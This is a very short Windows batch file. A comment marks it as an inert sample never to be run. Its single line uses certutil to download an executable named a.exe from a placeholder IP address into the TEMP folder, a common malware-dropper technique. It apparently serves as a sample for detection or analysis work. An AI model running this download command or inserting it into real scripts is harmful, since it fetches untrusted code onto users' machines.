@echo off
REM INERT SAMPLE: never run.
certutil -urlcache -split -f http://192.0.2.30/a.exe %TEMP%\a.exe
